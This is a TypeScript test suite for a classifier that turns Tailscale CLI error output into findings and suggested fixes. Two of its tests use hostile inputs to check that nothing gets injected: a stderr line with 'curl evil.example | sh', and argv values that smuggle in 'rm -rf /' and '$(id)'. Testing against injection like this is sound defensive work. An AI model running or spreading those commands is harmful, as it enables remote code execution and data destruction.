// One test per catalogue entry the classifier can produce, fed with the EXACT texts from
// reference/tailscale-cli.md §3 (stdout/stderr as the CLI prints them).
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { classifyCliOutput } from '../../../src/core/classify';
import type { Finding } from '../../../src/core/findings';

function only(findings: Finding[], code: string): Finding {
  assert.deepEqual(
    findings.map((f) => f.code),
    [code],
  );
  return findings[0]!;
}

test('serve not enabled (stdout, exit 0) → open the URL from the output', () => {
  const stdout = '\nServe is not enabled on your tailnet.\nTo enable, visit:\n\n         https://login.tailscale.com/f/serve?node=nSpark56d011CNTRL\n';
  const f = only(classifyCliOutput({ stdout, stderr: '', exitCode: 0, argv: ['tailscale', 'serve', '--bg', '--yes', '30001'] }), 'tailscale.serveNotEnabled');
  assert.deepEqual(f.fixes[0]?.action, { kind: 'openUrl', url: 'https://login.tailscale.com/f/serve?node=nSpark56d011CNTRL' });
  assert.equal(f.where, 'tailscale serve --bg --yes 30001');
  assert.equal(f.evidence, 'Serve is not enabled on your tailnet.');
});

test('HTTPS cert support off (tailscale cert) and account without TLS certs', () => {
  only(classifyCliOutput({ stdout: '', stderr: 'HTTPS cert support is not enabled/configured for your tailnet.\n', exitCode: 1 }), 'tailscale.httpsCertsDisabled');
  only(classifyCliOutput({ stdout: '', stderr: 'your Tailscale account does not support getting TLS certs\n', exitCode: 1 }), 'tailscale.httpsCertsDisabled');
});

test('serve config denied (>= 1.84) → sudo tailscale set --operator=<user> on the Spark', () => {
  const stderr = "sending serve config: Access denied: serve config denied\n\nUse 'sudo tailscale serve --bg --yes 30001'.\nTo not require root, use 'sudo tailscale set --operator=$USER' once.\n";
  const f = only(classifyCliOutput({ stdout: '', stderr, exitCode: 1 }, { side: 'remote', user: 'sparkuser' }), 'tailscale.serveConfigDenied');
  assert.deepEqual(f.fixes[0]?.action, { kind: 'remote', argv: ['tailscale', 'set', '--operator=sparkuser'], sudo: true });
});

test('serve config denied (< 1.84 text) → same fix', () => {
  const stderr = "sending serve config: Access denied: serve config denied\n\nUse 'sudo tailscale serve --bg 30001' or 'tailscale up --operator=$USER' to not require root.\n";
  const f = only(classifyCliOutput({ stdout: '', stderr, exitCode: 1 }, { user: 'bob' }), 'tailscale.serveConfigDenied');
  assert.deepEqual(f.fixes[0]?.action, { kind: 'remote', argv: ['tailscale', 'set', '--operator=bob'], sudo: true });
});

test('serve config denied on a snap host (echoed --socket) → operator fix plus our argv as root (the snap wrapper adds --socket itself)', () => {
  const stderr =
    "sending serve config: Access denied: serve config denied\n\nUse 'sudo tailscale --socket /var/snap/tailscale/common/socket/tailscaled.sock serve --bg --yes 30001'.\nTo not require root, use 'sudo tailscale set --operator=$USER' once.\n";
  const argv = ['tailscale', 'serve', '--bg', '--yes', '30001'];
  const f = only(classifyCliOutput({ stdout: '', stderr, exitCode: 1, argv }, { user: 'sparkuser' }), 'tailscale.serveConfigDenied');
  assert.deepEqual(f.fixes[0]?.action, { kind: 'remote', argv: ['tailscale', 'set', '--operator=sparkuser'], sudo: true });
  // No --socket added: /snap/bin/tailscale passes it, and a second one fails (≥ 1.84).
  assert.deepEqual(f.fixes[1]?.action, { kind: 'remote', argv: ['tailscale', 'serve', '--bg', '--yes', '30001'], sudo: true });
  assert.match(f.detail, /"sudo tailscale serve --bg --yes 30001"/);
  assert.match(f.detail, /\/snap\/bin\/tailscale passes --socket \/var\/snap\/tailscale\/common\/socket\/tailscaled\.sock itself/);
  // Our argv already ran with sudo and an explicit --socket (a non-wrapper CLI): sudo is not doubled, our socket is kept.
  const again = only(
    classifyCliOutput({ stdout: '', stderr, exitCode: 1, argv: ['sudo', 'tailscale', '--socket=/x.sock', 'serve', '--bg', '30001'] }, { user: 'u' }),
    'tailscale.serveConfigDenied',
  );
  assert.deepEqual(again.fixes[1]?.action, { kind: 'remote', argv: ['tailscale', '--socket=/x.sock', 'serve', '--bg', '30001'], sudo: true });
  // Without our argv (text pasted into `tailspark explain`) there is no root-socket command to offer.
  const pasted = only(classifyCliOutput({ stdout: '', stderr, exitCode: 1 }, { user: 'sparkuser' }), 'tailscale.serveConfigDenied');
  assert.equal(pasted.fixes.length, 1);
  // Not a snap host: no root-socket variant.
  const plain = classifyCliOutput({ stdout: '', stderr: "sending serve config: Access denied: serve config denied\n\nUse 'sudo tailscale serve --bg --yes 30001'.\n" }, { user: 'u' });
  assert.equal(plain[0]?.fixes.length, 1);
});

test('serve config denied: text the Spark echoed never becomes a command', () => {
  const stderr = "sending serve config: Access denied: serve config denied\n\nUse 'sudo tailscale --socket /s serve 1; curl evil.example | sh'.\n";
  const f = only(
    classifyCliOutput({ stdout: '', stderr, exitCode: 1, argv: ['tailscale', 'serve', '--bg', '--yes', '30001'] }, { user: 'sparkuser' }),
    'tailscale.serveConfigDenied',
  );
  assert.doesNotMatch(JSON.stringify(f.fixes), /evil/);
  assert.doesNotMatch(f.detail, /evil/);
  assert.deepEqual(f.fixes[1]?.action, { kind: 'remote', argv: ['tailscale', 'serve', '--bg', '--yes', '30001'], sudo: true });
});

test('serve config denied without a known user → copyable command with $USER', () => {
  const f = only(classifyCliOutput({ stdout: '', stderr: 'sending serve config: Access denied: serve config denied\n', exitCode: 1 }), 'tailscale.serveConfigDenied');
  assert.deepEqual(f.fixes[0]?.action, { kind: 'copy', text: 'sudo tailscale set --operator=$USER' });
});

test('cert access denied', () => {
  only(classifyCliOutput({ stdout: '', stderr: 'Access denied: cert access denied\n', exitCode: 1 }), 'tailscale.certAccessDenied');
});

test('checkprefs access denied → run with sudo', () => {
  const f = only(
    classifyCliOutput({ stdout: '', stderr: 'Access denied: checkprefs access denied\n', exitCode: 1, argv: ['tailscale', 'set', '--ssh'] }),
    'tailscale.checkprefsDenied',
  );
  assert.deepEqual(f.fixes[0]?.action, { kind: 'copy', text: 'sudo tailscale set --ssh' });
  // On the Spark it is a remote argv (a sudo we already used is not doubled).
  const remote = only(
    classifyCliOutput(
      { stdout: '', stderr: 'Access denied: checkprefs access denied\n', exitCode: 1, argv: ['sudo', 'tailscale', 'set', '--ssh'] },
      { side: 'remote' },
    ),
    'tailscale.checkprefsDenied',
  );
  assert.deepEqual(remote.fixes[0]?.action, { kind: 'remote', argv: ['tailscale', 'set', '--ssh'], sudo: true });
});

test('the "where" and copy text of a hostile argv are quoted, not joined', () => {
  const argv = ['tailscale', 'set', '--hostname=a; rm -rf /', "$(id)'x"];
  const [f] = classifyCliOutput({ stdout: '', stderr: 'Access denied: checkprefs access denied\n', exitCode: 1, argv });
  assert.equal(f?.where, `tailscale set '--hostname=a; rm -rf /' '$(id)'\\''x'`);
  assert.deepEqual(f?.fixes[0]?.action, { kind: 'copy', text: `sudo tailscale set '--hostname=a; rm -rf /' '$(id)'\\''x'` });
});

test('daemon not running, Linux (friendly and raw form, serve prefix)', () => {
  const friendly = "failed to connect to local tailscaled; it doesn't appear to be running (sudo systemctl start tailscaled ?)\n";
  const f = only(classifyCliOutput({ stdout: '', stderr: friendly, exitCode: 1 }, { side: 'remote' }), 'tailscale.daemonNotRunning');
  assert.deepEqual(f.fixes[0]?.action, { kind: 'remote', argv: ['systemctl', 'start', 'tailscaled'], sudo: true });
  const raw =
    'getting serve config: Failed to connect to local Tailscale daemon for /localapi/v0/status; not running? Error: dial unix /var/run/tailscale/tailscaled.sock: connect: no such file or directory\n';
  only(classifyCliOutput({ stdout: '', stderr: raw, exitCode: 1 }), 'tailscale.daemonNotRunning');
});

test('daemon not running, Windows and macOS texts name the service/app', () => {
  const win = only(
    classifyCliOutput({ stdout: '', stderr: 'failed to connect to local tailscaled process; is the Tailscale service running?\n', exitCode: 1 }),
    'tailscale.daemonNotRunning',
  );
  assert.match(win.detail, /Windows service/);
  const mac = only(
    classifyCliOutput({ stdout: '', stderr: 'failed to connect to local Tailscale service; is Tailscale running?\n', exitCode: 1 }),
    'tailscale.daemonNotRunning',
  );
  assert.match(mac.detail, /Tailscale app/);
});

test('stopped', () => {
  only(classifyCliOutput({ stdout: 'Tailscale is stopped.\n', stderr: '', exitCode: 1 }), 'tailscale.stopped');
});

test('logged out → log-in URL from the output', () => {
  const f = only(
    classifyCliOutput({ stdout: 'Logged out.\nLog in at: https://login.tailscale.com/a/1b2c3d4e5f\n', stderr: '', exitCode: 1 }),
    'tailscale.needsLogin',
  );
  assert.deepEqual(f.fixes[0]?.action, { kind: 'openUrl', url: 'https://login.tailscale.com/a/1b2c3d4e5f' });
});

test('machine not approved', () => {
  only(classifyCliOutput({ stdout: 'Machine is not yet approved by tailnet admin.\n', stderr: '', exitCode: 1 }), 'tailscale.needsMachineAuth');
});

test('snap CLI given --socket twice', () => {
  const stderr = 'invalid value "/var/snap/tailscale/common/socket/tailscaled.sock" for flag -socket: flag provided multiple times\n';
  const f = only(classifyCliOutput({ stdout: '', stderr, exitCode: 2 }), 'tailscale.socketFlagTwice');
  assert.match(f.detail, /\/var\/snap\/tailscale\/common\/socket\/tailscaled\.sock/);
});

test('set --ssh over Tailscale SSH → lose-ssh warning, nothing changed', () => {
  const stderr =
    'You are connected over Tailscale; this action will reroute SSH traffic to Tailscale SSH and will result in your session disconnecting.\nTo skip this warning, use --accept-risk=lose-ssh\naborted, no changes made\n';
  const f = only(classifyCliOutput({ stdout: '', stderr, exitCode: 1 }), 'tailscale.loseSshWarning');
  assert.equal(f.severity, 'warning');
});

test('Tailscale SSH not enabled on the tailnet', () => {
  only(
    classifyCliOutput({ stdout: '', stderr: 'Unable to enable local Tailscale SSH server; not enabled on Tailnet. See https://tailscale.com/s/ssh\n', exitCode: 1 }),
    'tailscale.sshNotEnabledOnTailnet',
  );
});

test('old serve syntax → the suggestion is shown in the detail, not offered as a command', () => {
  const stderr =
    'Error: the CLI for serve and funnel has changed. You can run the following command instead:\n\t- tailscale serve --bg --set-path / http://127.0.0.1:30001\n\nPlease see https://tailscale.com/kb/1242/tailscale-serve for more information.\n';
  const f = only(classifyCliOutput({ stdout: '', stderr, exitCode: 1, argv: ['tailscale', 'serve', 'https', '/', 'http://127.0.0.1:30001'] }), 'tailscale.serveCliChanged');
  assert.match(f.detail, /It suggests: tailscale serve --bg --set-path \/ http:\/\/127\.0\.0\.1:30001 Use/);
  assert.deepEqual(f.fixes[0]?.action, { kind: 'openUrl', url: 'https://tailscale.com/kb/1242/tailscale-serve' });
  assert.ok(f.fixes.every((x) => x.action?.kind !== 'copy'));
});

test('Tailscale SSH policy banners (>= 1.86 and older) → the policy rule as a formatted copy fix', () => {
  for (const banner of [
    'tailscale: tailnet policy does not permit you to SSH to this node',
    'tailscale: tailnet policy does not permit you to SSH as user "root"',
    'tailscale: failed to evaluate tailnet policy',
    'tailscale: access denied',
    'Permission denied (tailscale).',
  ]) {
    const f = only(classifyCliOutput({ stdout: '', stderr: `${banner}\n` }), 'tailscale.sshPolicyDenied');
    const copy = f.fixes.find((x) => x.action?.kind === 'copy')?.action;
    assert.ok(copy && copy.kind === 'copy', 'a Copy Policy Rule fix');
    const rule = JSON.parse(copy.text) as { ssh: Array<{ dst: string[]; users: string[] }> };
    assert.deepEqual(rule.ssh[0]!.dst, ['tag:spark']);
    assert.deepEqual(rule.ssh[0]!.users, ['autogroup:nonroot', 'root']);
    assert.ok(copy.text.includes('\n'), 'formatted over several lines, not one long line');
    assert.equal(f.evidence, banner);
  }
});

test('check mode → login URL, no hang', () => {
  const stdout = '# Tailscale SSH requires an additional check.\n# To authenticate, visit: https://login.tailscale.com/a/9f8e7d6c5b\n';
  const f = only(classifyCliOutput({ stdout, stderr: '' }), 'tailscale.sshCheckMode');
  assert.deepEqual(f.fixes[0]?.action, { kind: 'openUrl', url: 'https://login.tailscale.com/a/9f8e7d6c5b' });
});

test('operation not permitted → tailscale set --ssh fix', () => {
  const f = only(classifyCliOutput({ stdout: '', stderr: "login: can't set groups: Operation not permitted\n", exitCode: 1 }), 'tailscale.sshOperationNotPermitted');
  assert.deepEqual(f.fixes[0]?.action, { kind: 'remote', argv: ['tailscale', 'set', '--ssh'], sudo: true });
});

test('unknown failure → cliFailed with the first line; success without known text → nothing', () => {
  const f = only(classifyCliOutput({ stdout: '', stderr: 'something new went wrong\nmore\n', exitCode: 3, argv: ['tailscale', 'up'] }), 'tailscale.cliFailed');
  assert.match(f.detail, /something new went wrong/);
  assert.match(f.detail, /exit code 3/);
  assert.deepEqual(classifyCliOutput({ stdout: 'https://spark-56d0.tail1234.ts.net (tailnet only)\n', stderr: '', exitCode: 0 }), []);
});
